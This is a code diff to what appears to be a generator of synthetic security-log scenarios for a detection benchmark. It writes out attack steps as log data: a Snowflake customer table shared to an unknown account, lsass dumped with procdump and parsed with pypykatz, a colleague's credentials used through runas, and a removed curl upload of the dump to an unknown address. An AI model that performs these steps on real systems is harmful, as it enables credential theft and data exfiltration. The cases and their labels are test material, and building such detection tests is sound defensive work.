@@ -1,5 +1,7 @@
 """Snowflake's highest role, and programs on laptops whose memory is written to a file."""
 
+from datetime import datetime
+
 from tools.worlds.cast import Cast
 from tools.worlds.company import Person
 from tools.worlds.lake import Scribe
@@ -52,29 +54,25 @@ def role_handed_over(stage: Stage) -> None:
 
 
 def role_seized(stage: Stage) -> None:
-    """Denied prompts until one is accepted, elsewhere; then customers are shared with another account."""
-    scribe, branch, person, where = stage.scribe, stage.branch, stage.person, stage.elsewhere()
-    for moment, error in zip(pace(stage.dice, stage.before(24), 5, 40, 100), (*[_NO_FACTOR] * 4, 0), strict=True):
-        azure.sign_in(scribe, branch, moment, person, where, error=error, known_device=False, decisive=True)
-    for minutes in (29, 4, -8):
-        azure.sign_in(
-            scribe, branch, stage.before(minutes), person, stage.where, app="Microsoft Teams", interactive=False,
-            decisive=True,
-        )  # fmt: skip
-    snowflake.login(scribe, stage.before(9), person, where.address, decisive=True)
+    """At the usual desk; customers are shared with an account that no log names, for half an hour; the role stays."""
+    scribe, person = stage.scribe, stage.person
+    snowflake.login(scribe, stage.before(9), person, stage.where.address, decisive=True)
     _grant(stage, person)
     steps = (
-        ("SELECT * FROM customers LIMIT 100", "SELECT"),
-        ("CREATE SHARE SHOP_PARTNER", "CREATE"),
-        ("GRANT SELECT ON TABLE SHOP.PUBLIC.CUSTOMERS TO SHARE SHOP_PARTNER", "GRANT"),
-        (f"ALTER SHARE SHOP_PARTNER ADD ACCOUNTS = {stage.dice.base32(2)}{stage.dice.digits(5)}", "ALTER"),
+        ("SELECT COUNT(*) FROM customers", "SELECT"),
+        ("CREATE SHARE SHOP_TMP", "CREATE"),
+        ("GRANT SELECT ON TABLE SHOP.PUBLIC.CUSTOMERS TO SHARE SHOP_TMP", "GRANT"),
+        (f"ALTER SHARE SHOP_TMP ADD ACCOUNTS = {stage.dice.base32(2)}{stage.dice.digits(5)}", "ALTER"),
     )
     for moment, (text, kind) in zip(pace(stage.dice, stage.after(8, 10), 4, 60, 300), steps, strict=True):
         snowflake.query(scribe, moment, person, text, kind, role=_ADMIN, decisive=True)
+    snowflake.query(
+        scribe, stage.after(58, 66), person, "DROP SHARE SHOP_TMP", "DROP", role=_ADMIN, decisive=True
+    )  # fmt: skip
 
 
-def _dump(stage: Stage, program: str, to: str, address: str) -> None:
-    """The memory of one of two programs is written to a file, by its number, and the file is sent away."""
+def _dump(stage: Stage, program: str) -> str:
+    """The memory of one of two programs is written to a file, by its number; the answer is the file."""
     scribe, branch, person, dice = stage.scribe, stage.branch, stage.person, stage.dice
     lsass, sync = str(dice.between(700, 990)), str(dice.between(4000, 9900))
     endpoint.process(
@@ -85,22 +83,18 @@ def _dump(stage: Stage, program: str, to: str, address: str) -> None:
         scribe, branch, stage.before(58), person, _SYNC, "shopsync.exe --tray", pid=sync, decisive=True
     )  # fmt: skip
     file = f"C:\\dumps\\{dice.hex(6)}.dmp"
-    number = lsass if program == _LSASS else sync
-    command = f"procdump64.exe -accepteula -ma {number} {file}"
+    command = f"procdump64.exe -accepteula -ma {lsass if program == _LSASS else sync} {file}"
     endpoint.process(scribe, branch, stage.at, person, _PROCDUMP, command, parent=_CMD, decisive=True)
-    endpoint.process(
-        scribe, branch, stage.after(3, 4), person, _CURL, f"curl.exe -T {file} {to}", parent=_CMD, decisive=True
-    )  # fmt: skip
-    endpoint.connect(scribe, branch, stage.after(4.1, 5), person, _CURL, address, decisive=True)
+    return file
 
 
 def _dump_sync(stage: Stage) -> None:
     """The program for stock hangs; what it has in memory goes to the company's storage."""
-    company = stage.scribe.company
-    _dump(stage, _SYNC, f"https://dumps.{company.org}.example/", company.storage)
-    endpoint.process(
-        stage.scribe, stage.branch, stage.after(8, 11), stage.person, _SYNC, "shopsync.exe --tray", decisive=True
-    )  # fmt: skip
+    scribe, branch, person, company = stage.scribe, stage.branch, stage.person, stage.scribe.company
+    command = f"curl.exe -T {_dump(stage, _SYNC)} https://dumps.{company.org}.example/"
+    endpoint.process(scribe, branch, stage.after(3, 4), person, _CURL, command, parent=_CMD, decisive=True)
+    endpoint.connect(scribe, branch, stage.after(4.1, 5), person, _CURL, company.storage, decisive=True)
+    endpoint.process(scribe, branch, stage.after(8, 11), person, _SYNC, "shopsync.exe --tray", decisive=True)
 
 
 def _dump_history(scribe: Scribe, cast: Cast) -> None:
@@ -114,17 +108,27 @@ def dumped_program(stage: Stage) -> None:
 
 
 def dumped_passwords(stage: Stage) -> None:
-    """The number is that of the process that holds passwords; the file goes to an address never seen."""
-    scribe, branch, person, where = stage.scribe, stage.branch, stage.person, stage.elsewhere()
-    commands = (("whoami.exe", "whoami.exe /priv"), ("net.exe", 'net.exe group "Domain Admins" /domain'))
-    for minutes, (name, command) in zip((11, 8), commands, strict=True):
-        program = f"\\Windows\\System32\\{name}"
-        endpoint.process(scribe, branch, stage.before(minutes), person, program, command, parent=_CMD, decisive=True)
-    _dump(stage, _LSASS, f"https://{where.address}/", where.address)
-    endpoint.process(
-        scribe, branch, stage.after(8, 11), person, "\\Windows\\System32\\cmd.exe", "cmd.exe /c del /q C:\\dumps",
-        parent=_CMD, decisive=True,
-    )  # fmt: skip
+    """The number is that of the process that holds passwords; they are read out, and a colleague's is used."""
+    scribe, branch, person = stage.scribe, stage.branch, stage.person
+    colleague = branch.colleagues["support"][1]
+
+    def run(at: datetime, program: str, command: str) -> None:
+        endpoint.process(scribe, branch, at, person, program, command, parent=_CMD, decisive=True)
+
+    system = "\\Windows\\System32\\"
+    run(stage.before(11), f"{system}whoami.exe", "whoami.exe /priv")
+    file = _dump(stage, _LSASS)
+    run(stage.after(3, 4), "\\Users\\Public\\tools\\pypykatz.exe", f"pypykatz.exe lsa minidump {file}")
+    run(stage.after(9, 10), f"{system}runas.exe", f"runas.exe /netonly /user:{colleague.user} cmd.exe")
+    for moment, (app, error) in zip(
+        pace(stage.dice, stage.after(12, 14), 3, 40, 120),
+        ((azure.PORTAL, _NO_FACTOR), (azure.PORTAL, _NO_FACTOR), (azure.OFFICE, 0)),
+        strict=True,
+    ):
+        azure.sign_in(
+            scribe, branch, moment, colleague, stage.where, app=app, error=error, second_factor=bool(error),
+            known_device=False, decisive=True,
+        )  # fmt: skip
 
 
 CASES = (
@@ -136,16 +140,18 @@ CASES = (
                 "A size is changed with the role, which is taken back within the hour, as by colleagues.",
                 role_handed_over,
                 team="analytics",
-                hours_ago=8,
+                hours_ago=12,
             ),
             part(
                 "account-admin/seized",
                 "malicious",
-                "Denied prompts and a login at an unknown address, while the person is signed in at another; customers "
-                "are shared with an account, and the role stays.",
+                "Usual address; customers are shared with an account that no log names, the share is dropped after half an "
+                "hour, and the role stays.",
                 role_seized,
                 team="analytics",
-                hours_ago=9,
+                hours_ago=5,
+                subtle=True,
+                fair=("suspicious",),
             ),
         ),
         _role_history,
@@ -158,15 +164,16 @@ CASES = (
                 "The number is that of the program for stock; the file goes to the company's storage, as colleagues' do.",
                 dumped_program,
                 team="support",
-                hours_ago=15,
+                hours_ago=16,
             ),
             part(
                 "dump/passwords",
                 "malicious",
-                "The number is that of lsass.exe; the file goes to an address never seen, and the folder is emptied.",
+                "The number is that of lsass.exe; passwords are read from the file, and a colleague's is tried and used from "
+                "the same address on no known device.",
                 dumped_passwords,
                 team="support",
-                hours_ago=16,
+                hours_ago=11,
             ),
         ),
         _dump_history,
